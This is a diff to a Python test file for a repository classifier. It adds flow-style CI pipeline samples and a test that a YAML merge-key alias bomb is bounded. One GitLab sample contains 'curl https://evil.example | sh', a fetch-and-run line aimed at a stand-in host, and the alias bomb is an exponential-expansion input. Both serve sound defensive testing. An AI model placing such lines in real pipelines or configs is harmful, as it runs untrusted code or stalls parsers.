@@ -75,6 +75,27 @@ PLAY_FORMS: list[tuple[str, str]] = [
     ("play-past-window", f"- name: setup\n  vars:\n{PAD}  hosts: all\n  tasks:\n    - shell: id\n"),
     ("play-indented", "  - hosts: all\n    roles: [web]\n"),
 ]
+# CI definitions a pipeline includes from any path (GitLab `include: local: 'pipelines/*.yml'`, an Azure template,
+# a CodeBuild spec a CDK project names): each in flow style, which the block-style patterns do not read.
+CI_FORMS: list[tuple[str, str, str]] = [
+    ("gitlab-flow", "{stages: [t], build: {stage: t, script: ['curl https://evil.example | sh']}}\n",
+     "ci.content.gitlab-ci"),
+    ("gitlab-job-flow", "build: {stage: test, script: [make]}\n", "ci.content.gitlab-ci"),
+    ("gitlab-anchor", ".base: &b {stage: test}\nbuild:\n  <<: *b\n  script: !!seq [make]\n", "ci.content.gitlab-ci"),
+    ("workflow-flow", "{on: push, jobs: {t: {runs-on: ubuntu-latest, steps: [{run: id}]}}}\n",
+     "ci.content.github-workflow"),
+    ("action-flow", "{name: x, runs: {using: composite, steps: [{run: id, shell: bash}]}}\n",
+     "ci.content.github-action"),
+    ("azure-flow", "{pool: {vmImage: ubuntu-latest}, steps: [{script: id}]}\n", "ci.content.azure-pipelines"),
+    ("azure-task-flow", "steps: [{task: 'Bash@3', inputs: {script: id}}]\n", "ci.content.azure-pipelines"),
+    ("codebuild-flow", "{version: 0.2, phases: {build: {commands: [id]}}}\n", "ci.content.codebuild"),
+    ("concourse-flow", "{jobs: [{name: j, plan: [{task: t}]}]}\n", "ci.content.concourse"),
+    ("circleci-flow", "{version: 2.1, workflows: {w: {jobs: [b]}}, jobs: {b: {docker: [{image: x}]}}}\n",
+     "ci.content.circleci"),
+    ("drone-flow", "{kind: pipeline, steps: [{name: s, commands: [id]}]}\n", "ci.content.drone-woodpecker"),
+    ("bitbucket-flow", "{pipelines: {default: [{step: {script: [id]}}]}}\n", "ci.content.bitbucket"),
+    ("buildkite-flow", "{steps: [{command: id}, wait]}\n", "ci.content.buildkite"),
+]
 LINE_BREAKS: list[Callable[[str], str]] = [lambda t: t, lambda t: t.replace("\n", "\r\n")]
 
 
@@ -95,6 +116,13 @@ def test_every_form_of_an_infrastructure_file_is_iac(git_repo: GitRepo, newline:
     forms.update({f"app/{name}.json": text for name, text in JSON_FORMS})
     found = _tree(git_repo, forms)
     assert {path: f.bucket for path, f in found.items() if path in forms} == dict.fromkeys(forms, "iac")
+
+
+def test_every_form_of_a_ci_definition_is_ci(git_repo: GitRepo) -> None:
+    forms = {f"app/pipelines/{name}.yml": text for name, text, _ in CI_FORMS}
+    found = _tree(git_repo, forms)
+    expected = {f"app/pipelines/{name}.yml": rule for name, _, rule in CI_FORMS}
+    assert {path: found[path].rule for path in forms} == expected
 
 
 def test_the_forms_are_real_yaml_with_the_deciding_keys() -> None:
@@ -134,9 +162,27 @@ def test_text_that_cannot_hold_a_deciding_key_is_not_parsed(monkeypatch: pytest.
     monkeypatch.setattr(yamlroots, "documents", lambda text: parsed.append(text) or real(text))
     plain = "server:\n  port: 8080\n  labels:\n" + PAD + json.dumps({"a": [1, 2, {"b": "c"}]}) + "\n"
     assert yamlroots.yaml_signals(plain, RULES.context) == [] and parsed == []
-    for name, text in KUBE_FORMS + CFN_FORMS + PLAY_FORMS + JSON_FORMS:
+    forms = KUBE_FORMS + CFN_FORMS + PLAY_FORMS + JSON_FORMS + [(name, text) for name, text, _ in CI_FORMS]
+    for name, text in forms:
         assert yamlroots.yaml_signals(text, RULES.context), name
-    assert len(parsed) == len(KUBE_FORMS + CFN_FORMS + PLAY_FORMS + JSON_FORMS)
+    assert len(parsed) == len(forms)
+
+
+def test_merge_keys_over_aliases_cannot_stall_the_gate() -> None:
+    """`<<: [*a, *a, ...]` on every level reaches one mapping along exponentially many paths (395 bytes took 20 s,
+    eight levels would take hours): the work is bounded, and a file past the bound is reviewed, not read."""
+    import time
+
+    from gatekeeper.classify.sniff import sniff
+
+    lines = ["a0: &a0 {x: 1}"]
+    lines += [f"a{i}: &a{i} {{<<: [{', '.join([f'*a{i - 1}'] * 10)}]}}" for i in range(1, 8)]
+    # `apiVersion` without a kind: the text could hold a deciding key, so it is parsed (no key, no parse at all).
+    text = "\n".join(["apiVersion: apps/v1", *lines, f"<<: [{', '.join(['*a7'] * 10)}]", ""])
+    started = time.monotonic()
+    found = sniff("app/bomb.yaml", text.encode(), RULES.context, as_yaml=True)
+    assert time.monotonic() - started < 10
+    assert found is not None and found.rule == "iac.content.unread"
 
 
 def test_look_alikes_and_plain_configuration_stay_src(git_repo: GitRepo) -> None:
